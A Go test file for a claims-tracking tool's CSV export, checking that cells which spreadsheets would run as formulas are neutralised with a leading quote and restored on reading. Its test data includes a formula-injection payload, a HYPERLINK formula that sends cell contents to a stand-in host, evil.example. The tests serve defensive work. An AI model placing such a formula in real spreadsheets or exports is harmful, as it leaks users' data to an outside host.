package dump_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/claimtrack/claimtrack/internal/dump"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// tricky are cells a spreadsheet would run as formulas, and cells that look
// like the neutralised ones but are not.
var tricky = []struct{ in, out string }{
	{`=HYPERLINK("https://evil.example/?d="&A1,"Details")`, `'=HYPERLINK("https://evil.example/?d="&A1,"Details")`},
	{"+33 1 23 45 67 89", "'+33 1 23 45 67 89"},
	{"-5% in a year", "'-5% in a year"},
	{"-12", "'-12"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\tindented", "'\tindented"},
	{"\rreturn", "'\rreturn"},
	{"'=already quoted", "''=already quoted"},
	{"''+two quotes", "'''+two quotes"},
	{"'tis the season", "'tis the season"},
	{"'", "'"},
	{"''", "''"},
	{"", ""},
	{"plain text = fine", "plain text = fine"},
	{" =spaced", " =spaced"},
	{"“curly” – dash", "“curly” – dash"},
}

// Cells that would start a formula get a single quote in front (OWASP's
// advice); cells of quotes and then such a character get one more, so that
// reading undoes it exactly; every other cell is left alone.
func TestEscapeCell(t *testing.T) {
	for _, tc := range tricky {
		assert.Equal(t, tc.out, dump.EscapeCell(tc.in), "%q", tc.in)
		assert.Equal(t, tc.in, dump.UnescapeCell(tc.out), "%q", tc.out)
	}
}

// Whatever a cell holds, escaping and then unescaping gives it back.
func FuzzEscapeCell(f *testing.F) {
	for _, tc := range tricky {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := dump.EscapeCell(s)
		require.Equal(t, s, dump.UnescapeCell(e))
		if e != "" && utf8.ValidString(e) {
			require.NotContains(t, "=+-@\t\r", e[:1], "no cell starts a formula")
		}
	})
}

// A CSV file written starts with a byte-order mark and has every cell
// neutralised; the claims sheet reader takes it back, BOM or not.
func TestCSVWriter_BOMAndFormulas(t *testing.T) {
	var buf bytes.Buffer
	w := dump.NewCSVWriter(&buf)
	require.NoError(t, w.Header([]string{"text", "verdict_note"}))
	require.NoError(t, w.Fields([]string{`=HYPERLINK("https://evil.example","Click")`, ""}))
	require.NoError(t, w.Flush())
	out := buf.String()
	require.True(t, strings.HasPrefix(out, "\ufeff"), "a byte-order mark first: %q", out)
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, [][]string{{"text", "verdict_note"}, {`'=HYPERLINK("https://evil.example","Click")`, ""}}, records)

	var sheet bytes.Buffer
	w = dump.NewCSVWriter(&sheet)
	require.NoError(t, w.Header([]string{"text", "status", "verdict_note"}))
	for _, text := range []string{
		`=HYPERLINK("https://evil.example","Click") was posted.`,
		"-5% is what the ministry said inflation would be.",
		"'=already quoted, as the source wrote it.",
		"'Tis the season, the minister said.",
	} {
		require.NoError(t, w.Fields([]string{text, "refuted", "@desk: no."}))
	}
	require.NoError(t, w.Flush())
	for name, file := range map[string][]byte{"with BOM": sheet.Bytes(), "without BOM": bytes.TrimPrefix(sheet.Bytes(), []byte("\ufeff"))} {
		t.Run(name, func(t *testing.T) {
			claims, err := dump.ReadClaimsSheet(bytes.NewReader(file))
			require.NoError(t, err)
			require.Len(t, claims, 4)
			assert.Equal(t, `=HYPERLINK("https://evil.example","Click") was posted.`, claims[0].Claim.Text)
			assert.Equal(t, "-5% is what the ministry said inflation would be.", claims[1].Claim.Text)
			assert.Equal(t, "'=already quoted, as the source wrote it.", claims[2].Claim.Text)
			assert.Equal(t, "'Tis the season, the minister said.", claims[3].Claim.Text)
			assert.Equal(t, "@desk: no.", claims[0].VerdictNote)
		})
	}
}

// A sheet whose first column name is quoted reads the same with a BOM in
// front (a BOM before a quote is not valid CSV to a reader that keeps it).
func TestReadClaimsSheet_BOMBeforeQuotedHeader(t *testing.T) {
	claims, err := dump.ReadClaimsSheet(io.MultiReader(strings.NewReader("\ufeff\"text\",\"kind\"\r\n"), strings.NewReader("A claim long enough to keep.,statement\r\n")))
	require.NoError(t, err)
	require.Len(t, claims, 1)
	assert.Equal(t, "A claim long enough to keep.", claims[0].Claim.Text)
}
